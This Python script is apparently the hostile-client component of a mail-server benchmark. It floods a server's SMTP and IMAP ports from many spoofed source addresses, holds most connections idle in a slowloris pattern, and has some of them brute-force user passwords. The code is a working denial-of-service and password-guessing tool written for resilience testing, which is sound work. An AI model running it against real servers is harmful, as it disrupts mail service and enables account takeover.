"""The attacker for bench.py (a process of its own, so its work does not slow
the legitimate clients' timing): keeps up to N connections open to the SMTP
and IMAP ports from a set of source addresses, reconnecting (after a second) when the server drops one. Most only hold the connection (slowloris);
one in five guesses passwords of the legitimate users. Prints counters as
JSON when it gets SIGTERM.

    python3 hostile.py N SMTP_HOST:PORT IMAP_HOST:PORT SOURCE_SPEC USERS
SOURCE_SPEC: "v4:127.3.0.1-40" or "v6:2001:db8:a::/64".
"""
import asyncio
import ipaddress
import json
import random
import signal
import socket
import sys
import time

IP_FREEBIND = 15

n_total = int(sys.argv[1])
smtp = sys.argv[2].rsplit(":", 1)
imap = sys.argv[3].rsplit(":", 1)
spec = sys.argv[4]
users = sys.argv[5].split(",")
rnd = random.Random(13)
stats = {"connects": 0, "refused_or_dropped": 0, "greeted": 0, "held_peak": 0, "guesses": 0, "errors": 0}
held = 0


def sources():
    kind, rest = spec.split(":", 1)
    if kind == "v4":
        base, rng = rest.rsplit(".", 1)
        lo, hi = map(int, rng.split("-"))
        return socket.AF_INET, [f"{base}.{i}" for i in range(lo, hi + 1)]
    net = ipaddress.ip_network(rest)
    return socket.AF_INET6, [str(net[rnd.randrange(1, 2 ** 32)]) for _ in range(4000)]


family, addrs = sources()


async def one(i, stop):
    host, port = (smtp if i % 2 == 0 else imap)
    is_smtp = i % 2 == 0
    guesser = i % 5 == 0
    while not stop.is_set():
        src = addrs[rnd.randrange(len(addrs))] if family == socket.AF_INET6 else addrs[i % len(addrs)]
        try:
            sock = socket.socket(family, socket.SOCK_STREAM)
            sock.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)
            sock.setblocking(False)
            sock.bind((src, 0))
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, (host.strip("[]"), int(port))), 10)
            reader, writer = await asyncio.open_connection(sock=sock)
            stats["connects"] += 1
            line = await asyncio.wait_for(reader.readline(), 30)
            if not line or b"BYE" in line or line.startswith(b"421"):
                stats["refused_or_dropped"] += 1
                writer.close()
                await asyncio.sleep(1)
                continue
            stats["greeted"] += 1
            global held
            held += 1
            stats["held_peak"] = max(stats["held_peak"], held)
            if guesser:
                user = users[rnd.randrange(len(users))]
                while not stop.is_set():
                    stats["guesses"] += 1
                    if is_smtp:
                        writer.write(b"EHLO x\r\n")
                        await writer.drain()
                        while True:
                            l2 = await asyncio.wait_for(reader.readline(), 60)
                            if not l2 or l2[3:4] != b"-":
                                break
                        import base64
                        writer.write(b"AUTH PLAIN " + base64.b64encode(f"\0{user}\0guess{rnd.random()}".encode()) + b"\r\n")
                    else:
                        writer.write(f"g LOGIN {user} guess{rnd.random()}\r\n".encode())
                    await writer.drain()
                    reply = await asyncio.wait_for(reader.readline(), 60)
                    if not reply:
                        break
            else:
                # hold it, silent, until the server gives up on us
                while not stop.is_set():
                    data = await reader.read(4096)
                    if not data:
                        break
            stats["refused_or_dropped"] += 1
            held -= 1
            writer.close()
        except (OSError, asyncio.TimeoutError, ConnectionError):
            stats["errors"] += 1
        await asyncio.sleep(1)


async def main():
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    tasks = []
    for i in range(n_total):
        tasks.append(asyncio.create_task(one(i, stop)))
        if i % 100 == 99:
            await asyncio.sleep(0.05)  # 2,000 connections within about a second
    await stop.wait()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    stats["cpu_s"] = round(time.process_time(), 1)
    print(json.dumps(stats), flush=True)


asyncio.run(main())
